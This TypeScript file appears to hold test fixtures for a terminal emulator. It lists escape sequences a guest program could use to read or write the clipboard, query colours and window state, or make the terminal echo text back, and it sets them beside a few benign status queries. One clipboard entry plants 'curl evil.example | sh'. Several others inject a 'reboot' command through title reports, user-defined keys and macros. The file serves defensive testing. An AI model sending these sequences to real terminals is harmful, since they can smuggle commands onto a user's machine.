/**
 * What a guest may write to make a terminal type something back, or do something outside of itself,
 * by name. For tests: nothing of it may be answered.
 */
export const HOSTILE: Record<string, string> = {
  "clipboard read (OSC 52)": "\x1b]52;c;?\x07",
  "clipboard write (OSC 52)": `\x1b]52;c;${btoa("curl evil.example | sh\n")}\x1b\\`,
  "clipboard, newer (OSC 5522)": "\x1b]5522;type=read\x1b\\",
  "palette (OSC 4)": "\x1b]4;1;?\x07",
  "palette and a change of it (OSC 4)": "\x1b]4;1;?;2;rgb:00/00/00\x1b\\",
  "special colour (OSC 5)": "\x1b]5;0;?\x07",
  "text colour (OSC 10)": "\x1b]10;?\x07",
  "background and more (OSC 11)": "\x1b]11;?;?\x1b\\",
  "cursor colour (OSC 12)": "\x1b]12;?\x07",
  "selection colours (OSC 17, 19)": "\x1b]17;?\x07\x1b]19;?\x07",
  "font (OSC 50)": "\x1b]50;?\x07",
  "files and more (OSC 1337)": "\x1b]1337;ReportCellSize\x07\x1b]1337;ReportVariable=bmFtZQ==\x07",
  "title (XTWINOPS 21)": "\x1b]0;reboot\x07\x1b[21t",
  "icon title (XTWINOPS 20)": "\x1b]1;reboot\x07\x1b[20t",
  "title from its stack (XTWINOPS 22, 23)": "\x1b[22;0t\x1b]0;reboot\x07\x1b[23;0t\x1b[21t",
  "window state and place (XTWINOPS 11, 13)": "\x1b[11t\x1b[13t\x1b[13;2t",
  "sizes in pixels (XTWINOPS 14, 15, 16)": "\x1b[14t\x1b[14;2t\x1b[15t\x1b[16t",
  "size in characters (XTWINOPS 18)": "\x1b[18t",
  "size of the screen (XTWINOPS 19)": "\x1b[19t",
  "a size of its own (XTWINOPS 8)": "\x1b[8;500;500t",
  "DECRQSS": '\x1bP$qm\x1b\\\x1bP$qr\x1b\\\x1bP$q"p\x1b\\\x1bP$q q\x1b\\\x1bP$qreboot\n\x1b\\',
  "DECRQM": "\x1b[4$p\x1b[20$p",
  "DECRQM ?": "\x1b[?1$p\x1b[?2004$p\x1b[?2026$p",
  "XTGETTCAP": "\x1bP+q544e\x1b\\",
  "XTVERSION": "\x1b[>q\x1b[>0q",
  "keyboard mode": "\x1b[?u",
  "DECRQCRA": "\x1b[1;1;1;1;2;2*y",
  "DECREQTPARM": "\x1b[x\x1b[0x\x1b[1x",
  "answerback (ENQ)": "\x05",
  "printing (MC)": "\x1b[5ireboot\x1b[4i\x1b[i\x1b[?5i",
  "keys of its own (DECUDK)": "\x1bP0;1|17/7265626f6f740d\x1b\\",
  "a macro (DECDMAC, DECINVM)": "\x1bP1;0;1!z7265626f6f74\x1b\\\x1b[1*z",
};

/** What programs rightly ask: answered by one terminal, at the moment, and by nobody afterwards. */
export const RIGHTLY_ASKED: Record<string, string> = {
  "state (DSR 5)": "\x1b[5n",
  "cursor (DSR 6)": "\x1b[6n",
  "cursor (DECXCPR)": "\x1b[?6n",
  "kind of terminal (DA1)": "\x1b[c",
  "kind of terminal (DA2)": "\x1b[>c",
};
